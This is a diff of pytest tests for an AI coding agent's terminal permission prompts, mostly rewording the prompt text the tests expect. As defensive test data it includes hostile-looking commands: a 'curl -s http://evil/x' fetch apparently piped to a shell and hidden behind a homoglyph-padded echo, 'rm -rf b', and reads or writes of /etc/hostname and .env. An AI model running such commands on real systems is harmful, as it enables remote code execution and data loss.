@@ -19,7 +19,7 @@ def write(name: str) -> tuple[str, dict[str, str]]:
     return ("write", {"path": name, "content": "x\n"})
 
 
-def asked(terminal: Terminal, what: str = "why:") -> None:
+def asked(terminal: Terminal, what: str = "No, and stop") -> None:
     """Wait for the question, and as long as a person needs to see it."""
     terminal.wait_for("›")
     terminal.line("go")
@@ -55,9 +55,9 @@ class TestTyping:
         time.sleep(1.0)  # clock: as nobody reads what it writes, the program waits in the middle of the question
         terminal.child.send("\r" if key == "enter" else key)
         time.sleep(0.1)  # clock: until the key has arrived
-        terminal.wait_for("above this screen")
+        terminal.wait_for("scrolled off")
         wait(terminal, 1.5)
-        assert "above this screen" in terminal.text
+        assert "scrolled off" in terminal.text
         assert not (repo / "made.py").exists()
 
     @pytest.mark.parametrize("words", ["wait", "and now", "yes please", "ayn", "no"])
@@ -66,13 +66,13 @@ class TestTyping:
         asked(terminal)
         terminal.type(words)
         wait(terminal)
-        assert "? bash asks to run" in terminal.text
-        assert terminal.text.endswith(f"› {words}"), "nothing typed is lost"
-        assert "always in this session" in terminal.text
+        assert "? Run this command?" in terminal.text
+        assert f"› {words}\n" in terminal.text, "nothing typed is lost"
+        assert "don't ask again" in terminal.text
         terminal.key("enter")
         terminal.wait_for(f"queued: {words}")
         wait(terminal)
-        assert "? bash asks to run" in terminal.text
+        assert "? Run this command?" in terminal.text
         assert "allowed for this session" not in terminal.scrollback
         assert not made.exists()
 
@@ -86,7 +86,7 @@ class TestTyping:
         asked(terminal)
         terminal.type(pasted)
         wait(terminal)
-        assert "? bash asks to run" in terminal.text
+        assert "? Run this command?" in terminal.text
         assert not made.exists()
 
     def test_enter_that_was_meant_for_a_line(self, start: Start, made: Path) -> None:
@@ -96,7 +96,7 @@ class TestTyping:
         terminal.line("go")
         terminal.wait_for("come")
         terminal.type("do it")
-        terminal.wait_for("why:")
+        terminal.wait_for("No, and stop")
         wait(terminal)
         terminal.wait_for("enter queues your message")
         terminal.key("enter")
@@ -119,7 +119,7 @@ class TestTyping:
             terminal.pump(0.01)
         terminal.key("enter")
         terminal.settle(0.2)
-        assert "? bash asks to run" in terminal.text
+        assert "? Run this command?" in terminal.text
         assert not made.exists()
 
 
@@ -159,7 +159,7 @@ class TestKeys:
         terminal.type("give me")
         wait(terminal)
         terminal.type("a")
-        terminal.wait_for("▸ a ")
+        terminal.wait_for("▸ 2  Yes")
         wait(terminal)
         assert not made.exists()
         terminal.key("enter")
@@ -172,11 +172,11 @@ class TestKeys:
         terminal = start(
             step("Now.", bash(command)), step("Again.", bash(f"{command} -q")), step("Other.", bash("python3 -c 1"))
         )
-        asked(terminal, "always in this session: bash(python3 -m pytest *)")
+        asked(terminal, "this session for bash(python3 -m pytest *)")
         terminal.type("a")
         terminal.wait_for("allowed for this session: bash(python3 -m pytest *)")
-        terminal.wait_for("? bash asks to run")
-        assert "python3 -c 1" in terminal.text and terminal.scrollback.count("? bash asks to run") == 1
+        terminal.wait_for("? Run this command?")
+        assert "python3 -c 1" in terminal.text and terminal.scrollback.count("? Run this command?") == 1
         terminal.key("esc")
 
     def test_shift_tab_lets_all_changes_pass_from_here(self, start: Start, repo: Path) -> None:
@@ -184,18 +184,18 @@ class TestKeys:
             step("Now.", write("a.txt")), step("More.", write("b.txt"), bash("rm b.txt")), step("Done."), rows=40
         )
         asked(terminal, "shift-tab")
-        assert "all changes from here: mode auto-edit" in terminal.text
+        assert "accept all edits from here" in terminal.text
         terminal.type("\x1b[Z")
-        terminal.wait_for("mode auto-edit: changes in the workspace run unasked from here")
-        terminal.wait_for("? bash asks to run")
+        terminal.wait_for("auto-edit mode: edits in the workspace no longer ask")
+        terminal.wait_for("? Run this command?")
         assert (repo / "b.txt").exists()
         assert "shift-tab" not in terminal.text
         wait(terminal)
         terminal.type("\x1b[Z")
         wait(terminal)
-        assert "? bash asks to run" in terminal.text, "it is no answer where it would change nothing"
+        assert "? Run this command?" in terminal.text, "it is no answer where it would change nothing"
         terminal.type("n\r")
-        terminal.wait_for("recorded · auto-edit ·")
+        terminal.wait_for("  auto-edit ·")
 
     def test_shift_tab_is_not_offered_where_the_mode_would_still_ask(self, start: Start) -> None:
         terminal = start(step("Now.", write("CLAUDE.md")), step("Done."))
@@ -210,7 +210,7 @@ class TestKeys:
         terminal.wait_for(STATUS)
         terminal.line("go")
         terminal.wait_for("Done.")
-        assert "asks to" not in terminal.scrollback
+        assert "Run this" not in terminal.scrollback
         assert "old was not found" in terminal.text
 
 
@@ -244,14 +244,17 @@ def test_the_dangerous_part_is_on_the_screen(start: Start, command: str, columns
     terminal = start(step("Now.", bash(command)), step("Done."), columns=columns, rows=rows)
     terminal.wait_for("›")
     terminal.line("go")
-    terminal.wait_for("no, and stop")
+    terminal.wait_for("No, and stop")
     screen = terminal.settle()
-    assert "? bash asks to run" in screen
+    assert "? Run this command?" in screen
     assert "curl" in screen
     assert "sh" in screen.replace("shift", "").replace("show", "").replace("pushed", "")
     if "lines," in screen:
-        lines, above = (int(word.replace(",", "")) for word in screen.split("asks to run ")[1].split()[:3:2])
-        body = screen.split("? bash asks to run")[0].rstrip("\n").count("\n") + 1
+        lines, above = (
+            int(word.replace(",", ""))
+            for word in (lambda words: (words[0], words[4]))(screen.split("this command? ")[1].split())
+        )
+        body = screen.split("? Run this command?")[0].rstrip("\n").count("\n") + 1
         assert above == lines - body, "it says truly how much stands above"
     size = len(terminal.raw)
     wait(terminal, 1.5)
@@ -278,7 +281,7 @@ def test_a_name_draws_no_rows_of_its_own(start: Start, columns: int) -> None:
     asked(terminal)
     assert "\n  why: write changes a.py\n" not in terminal.scrollback
     assert "\n     1 + print(1)\n" not in terminal.scrollback
-    assert "a.py\\x0a" in terminal.text and "\\x0ab.py\n" in terminal.text.replace("\n ", "\n")
+    assert "a.py\\x0a" in terminal.text and "\\x0ab.py?\n" in terminal.text.replace("\n ", "\n")
     terminal.key("esc")
 
 
@@ -288,7 +291,7 @@ def test_a_long_path_hides_neither_its_end_nor_why(start: Start, columns: int) -
     terminal = start(step("Now.", ("read", {"path": path})), step("Done."), columns=columns)
     asked(terminal)
     assert "etc/hostname" in terminal.text.replace("\n", "")
-    assert "whole above this screen: scroll up" in " ".join(terminal.text.split())
+    assert "the whole has scrolled off" in " ".join(terminal.text.split())
     assert "  why: it is outside the workspace" in " ".join(terminal.text.split("\n"))
     terminal.key("esc")
 
@@ -297,7 +300,7 @@ def test_a_long_path_hides_neither_its_end_nor_why(start: Start, columns: int) -
 def test_a_long_word_that_looks_like_another_does_not_push_the_parts_away(start: Start, columns: int) -> None:
     command = "echo " + "\u0430" * 3000 + f"z; {EVIL}"
     terminal = start(step("Now.", bash(command)), step("Done."), columns=columns)
-    asked(terminal, "no, and stop")
+    asked(terminal, "No, and stop")
     assert "    curl -s http://evil/x\n" in terminal.text
     assert "only looks like" in terminal.text.replace("\n", " ")
     terminal.key("esc")
@@ -307,9 +310,9 @@ def test_a_long_word_that_looks_like_another_does_not_push_the_parts_away(start:
 def test_a_rule_too_long_to_be_read_is_not_offered(start: Start, columns: int) -> None:
     folder = "/".join(letter * 240 for letter in "defghij")
     terminal = start(step("Now.", write(f"{folder}/k.py")), step("Done."), columns=columns)
-    asked(terminal, "no, and stop")
-    assert "k.py" in terminal.text and "scroll up" in terminal.text
-    assert "always in this session" not in terminal.text and "tab changes the rule" not in terminal.text
+    asked(terminal, "No, and stop")
+    assert "k.py" in terminal.text and "scrolled off" in " ".join(terminal.text.split())
+    assert "don't ask again" not in terminal.text and "tab edit the rule" not in terminal.text
     terminal.key("esc")
 
 
@@ -335,7 +338,7 @@ def test_a_long_change_says_how_much_stands_above(start: Start) -> None:
     terminal = start(step("Now.", ("write", {"path": "new.py", "content": lines})), step("Done."))
     asked(terminal)
     visible = [number for number in range(1, 91) if f"+ line {number}\n" in terminal.text + "\n"]
-    assert f"? write asks to change new.py 90 lines, {90 - len(visible)} above this screen: scroll up" in terminal.text
+    assert f"? Write new.py? 90 lines; the first {90 - len(visible)} have scrolled off" in terminal.text
     assert visible[-1] == 90
     assert "+ line 1\n" in terminal.scrollback
     terminal.key("esc")
@@ -345,7 +348,7 @@ def test_no_row_below_the_head_begins_at_the_edge(start: Start) -> None:
     terminal = start(step("Now.", bash("touch a; rm -rf b"), bash("touch c")), columns=40)
     asked(terminal)
     for key in ("n", "\x1b", "y", "\t", "\x1b"):  # why not, back, the next one, its rule
-        rows = terminal.settle().rpartition("? bash asks to run")[2].split("\n")[1:]
+        rows = terminal.settle().rpartition("? Run this command?")[2].split("\n")[1:]
         assert {row[:2] for row in rows if row} <= {"  ", "› ", "›", "▸ "}, key
         terminal.type(key)
         wait(terminal)
@@ -355,8 +358,8 @@ def test_one_line_above_a_small_screen_is_one_line(start: Start) -> None:
     terminal = start(step("Now.", bash("touch a; rm -rf b")), columns=40, rows=12)
     terminal.wait_for("›")
     terminal.line("go")
-    terminal.wait_for("no, and stop")
-    assert "? bash asks to run 1 line, 1 above this screen: scroll up" in " ".join(terminal.settle().split())
+    terminal.wait_for("No, and stop")
+    assert "? Run this command? 1 line; the first 1 have scrolled off" in " ".join(terminal.settle().split())
     terminal.key("esc")
 
 
@@ -377,7 +380,7 @@ def test_a_line_that_looks_as_it_did_is_told(start: Start, repo: Path, old: str,
     read, change = ("read", {"path": "app.py"}), ("write", {"path": "app.py", "content": new})
     terminal = start(step("Read.", read), step("Now.", change), step("Done."))
     asked(terminal)
-    assert ("a changed line looks as it did" in terminal.text) is told
+    assert ("a change is invisible" in terminal.text) is told
     terminal.key("esc")
 
 
@@ -385,7 +388,7 @@ def test_a_change_that_is_too_long_to_show_says_so(start: Start) -> None:
     lines = "".join(f"line {number} {'x' * 90}\n" for number in range(1000))
     terminal = start(step("Now.", ("write", {"path": "new.py", "content": lines})), step("Done."))
     asked(terminal)
-    assert "more characters]\n? write asks to change new.py" in terminal.text
+    assert "more characters]\n? Write new.py?" in terminal.text
     terminal.key("esc")
 
 
@@ -394,7 +397,7 @@ def test_why_auto_asks_is_told(start: Start) -> None:
         step("Now.", bash("node x; sh y")), step("Done."), arguments=("--mode", "auto", "--sandbox", "off")
     )
     asked(terminal)
-    assert "2 parts are not known to read only; auto runs it only in a sandbox, and" in terminal.text
+    assert "2 parts may change something; auto runs it only in a sandbox, and" in terminal.text
     terminal.key("esc")
 
 
@@ -403,13 +406,13 @@ def test_why_auto_asks_is_told(start: Start) -> None:
     [
         (
             ("read", {"path": "/etc/hostname"}),
-            "? read asks to read /etc/hostname\n  why: it is outside the workspace\n",
+            "? Read /etc/hostname?\n  why: it is outside the workspace\n",
         ),
-        (write(".env"), "? write asks to change .env\n     1 + x\n  why: it has the name of a file with secrets\n"),
-        (bash("make all"), "  why: make is not known to be read-only\n"),
+        (write(".env"), "? Write .env?\n     1 + x\n  why: it has the name of a file with secrets\n"),
+        (bash("make all"), "  why: make may change something\n"),
         (
             bash("make all; git var X"),
-            "  why: 2 parts are not known to read only\n"
+            "  why: 2 parts may change something\n"
             "    make all\n    git var X  (git var of this name is not known to be read-only)\n",
         ),
     ],
@@ -439,7 +442,7 @@ class TestCode:
             step("Read.", ("read", {"path": "deep.py"})), step("Now.", change), step("Done."), columns=columns
         )
         asked(terminal)
-        rows = terminal.text.split("asks to")[1].split("\n")
+        rows = terminal.text.split("? ")[-1].split("\n")
         margin = min(row.index("for") for row in rows if "for a in b" in row)
         starts = [row.index(word) - margin for word in ("if a", "if c", "print") for row in rows if word in row]
         assert sorted(set(starts)) == [16, 20, 24]
